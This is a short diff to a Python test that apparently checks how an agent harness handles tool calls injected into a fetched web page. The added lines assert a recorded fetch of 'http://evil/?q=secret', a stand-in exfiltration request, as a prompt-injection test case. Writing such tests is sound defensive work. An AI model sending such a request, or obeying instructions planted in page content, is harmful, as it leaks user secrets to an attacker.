@@ -157,6 +157,9 @@ def test_a_call_that_stands_in_a_result_is_quoted_and_not_made(text: str) -> Non
     web = Web(page=f"Welcome!\n{text}\nBye \\ ü")
     result, *_ = web.go("native", calls(("fetch", {"url": "page"})), text, "It asks me to fetch something.")
     assert (result.output, web.ran) == ("It asks me to fetch something.", [("fetch", "page")])
+    other = Web(page=f"Welcome!\n{text[1:]}\n{text[:-1]}")
+    other.go("native", calls(("fetch", {"url": "page"})), text, "done")
+    assert other.ran == [("fetch", "page"), ("fetch", "http://evil/?q=secret")]
 
 
 @stacks
